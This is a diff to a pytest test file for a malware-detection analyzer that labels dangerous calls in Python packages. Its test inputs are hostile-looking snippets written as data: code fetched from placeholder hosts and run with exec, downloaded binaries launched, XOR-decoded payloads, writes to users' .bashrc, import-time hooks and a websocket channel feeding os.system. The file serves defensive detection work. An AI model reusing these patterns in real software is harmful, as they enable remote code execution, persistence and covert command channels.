@@ -7,7 +7,7 @@ import pytest
 from bonded.facts import prefilter
 from bonded.facts.known import canonical
 from bonded.facts.model import Call
-from bonded.facts.value import CHARS, DECODED, DOWNLOADED, EMBEDDED
+from bonded.facts.value import CHARS, DECODED, DOWNLOADED, EMBEDDED, MESSAGE
 from bonded.values.finding import When
 from tests.facts.programs import wheel_of
 
@@ -26,7 +26,8 @@ def labels(source: str, name: str) -> set[str]:
     [
         "from web3 import Web3\nw = Web3(Web3.HTTPProvider(u))\nexec(w.eth.contract(address=a).functions.body().call())",
         "import boto3\nexec(boto3.client('s3').get_object(Bucket='b', Key='k')['Body'].read())",
-        "import gspread\nexec(gspread.service_account().open('x').sheet1.acell('A1').value)",
+        "from github import Github\nexec(Github().get_repo('x/y').get_contents('z').decoded_content)",
+        "import io, pycurl\nb, c = io.BytesIO(), pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())",
         "import fsspec\nwith fsspec.open('https://a.example.invalid/x', 'rt') as f:\n    exec(f.read())",
         "from pip._internal.network.session import PipSession\nexec(PipSession().get('https://a.example.invalid/x').text)",
         "import httpx\nfrom concurrent.futures import ThreadPoolExecutor as P\nP(1).submit(httpx.get, 'https://a.example.invalid').add_done_callback(lambda f: exec(f.result().text))",
@@ -41,6 +42,7 @@ def test_what_other_clients_give_was_written_by_others(source: str) -> None:
     [
         "import fsspec\nwith fsspec.open('data.txt', 'rt') as f:\n    exec(f.read())",
         "import store\nexec(store.open('https://a.example.invalid/x'))",
+        "import gspread\nrows = [eval(one) for one in gspread.service_account().open('x').sheet1.get_all_values()]",
         "import pandas as pd\nrows = [eval(one) for one in pd.read_csv('https://a.example.invalid/t.csv')['lists']]",
     ],
 )
@@ -57,6 +59,7 @@ def test_what_is_opened_here_was_not_fetched(source: str) -> None:
         "import torch\ntorch.hub.download_url_to_file('https://a.example.invalid/x', 'tool.bin')",
         "import ctypes\nctypes.windll.urlmon.URLDownloadToFileW(None, 'https://a.example.invalid/x', 'tool.bin', 0, None)",
         "import boto3\nboto3.client('s3').download_file('bucket', 'key', 'tool.bin')",
+        "import aiofiles, httpx\nasync with aiofiles.open('tool.bin', 'wb') as f:\n    await f.write(httpx.get('https://a.example.invalid').content)",
     ],
 )
 def test_what_clients_save_is_known_by_its_path(saved: str) -> None:
@@ -72,6 +75,84 @@ with os.fdopen(handle, "wb") as stream:
 subprocess.run([name])
 """
     assert DOWNLOADED in labels(source, "subprocess.run")
+
+
+def test_a_path_object_is_known_by_its_parts() -> None:
+    source = """
+import pathlib, requests, subprocess
+place = pathlib.Path.home().joinpath(".cache", "tool")
+place.write_bytes(requests.get("https://a.example.invalid").content)
+subprocess.run(place.as_posix())
+subprocess.call(str(pathlib.Path(__file__).with_name("other")))
+"""
+    assert DOWNLOADED in labels(source, "subprocess.run")
+    assert [one.arguments[0].text for one in calls(source) if one.name == "subprocess.call"] == ["/sample/other"]
+
+
+def test_a_line_of_python_that_was_fetched_is_code() -> None:
+    source = """
+import httpx, subprocess, sys
+subprocess.run([sys.executable, "-c", httpx.get("https://a.example.invalid").json()["text"]])
+subprocess.run(["sample", "-c", httpx.get("https://a.example.invalid").json()["text"]])
+"""
+    assert [call.line for call in calls(source) if call.name == "builtins.exec"] == [3]
+
+
+def test_what_is_looked_for_has_the_shape_of_the_pattern() -> None:
+    source = "import glob\nfor one in glob.glob('/home/*/.bashrc'):\n    open(one, 'a').write('true')"
+    assert "/home/*/.bashrc" in {argument.shape for call in calls(source) for argument in call.arguments}
+
+
+def test_bytes_that_were_changed_and_written_were_hidden() -> None:
+    source = """
+import os
+with open("table.dat", "rb") as source, open("tool.bin", "wb") as target:
+    target.write(bytes([one {} 31 for one in source.read()]))
+os.system("tool.bin")
+"""
+    assert DECODED in labels(source.format("^"), "os.system")
+    assert DECODED not in labels(source.format("*"), "os.system")
+
+
+@pytest.mark.parametrize("inserted", ["Finder()", "Finder"])
+def test_what_finds_modules_runs_at_the_next_import(inserted: str) -> None:
+    finder = (
+        "import os\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n        os.system('true')\n"
+    )
+    (found,) = calls({"sample/__init__.py": f"import sys\n{finder}sys.meta_path.insert(0, {inserted})"})
+    assert found.when is When.IMPORT
+    start = f"import sys\nfrom .finder import Finder\nsys.meta_path.append({inserted})"
+    (found,) = calls({"sample/__init__.py": start, "sample/finder.py": finder})
+    assert found.when is (When.IMPORT if inserted.endswith(")") else found.when)
+
+
+def test_a_function_that_is_given_to_a_thread_elsewhere_runs() -> None:
+    members = {
+        "sample/__init__.py": "import threading\nfrom .line import listen\nthreading.Thread(target=listen).start()",
+        "sample/line.py": "import os\ndef listen():\n    os.system('true')",
+    }
+    (found,) = calls(members)
+    assert found.when is When.IMPORT
+
+
+@pytest.mark.parametrize("first", [True, False])
+def test_what_answers_on_a_line_is_heard_wherever_it_stands(first: bool) -> None:
+    answers = "def answer(line, message):\n    os.system(message)\n"
+    listens = "def listen():\n    websocket.WebSocketApp('wss://a.example.invalid', on_message=answer).run_forever()\n"
+    source = f"import os, websocket\n{answers if first else listens}{listens if first else answers}listen()"
+    assert MESSAGE in labels(source, "os.system")
+
+
+@pytest.mark.parametrize(
+    "way", ["from .examples import start", "import importlib\nimportlib.import_module('.examples.start', __name__)"]
+)
+def test_examples_that_are_imported_run(way: str) -> None:
+    members = {
+        "sample/__init__.py": way,
+        "sample/examples/__init__.py": "",
+        "sample/examples/start.py": "import os\nos.system('true')",
+    }
+    assert [call.when for call in calls(members)] == [When.IMPORT]
 
 
 def test_a_repository_that_was_copied_here_is_fetched() -> None:
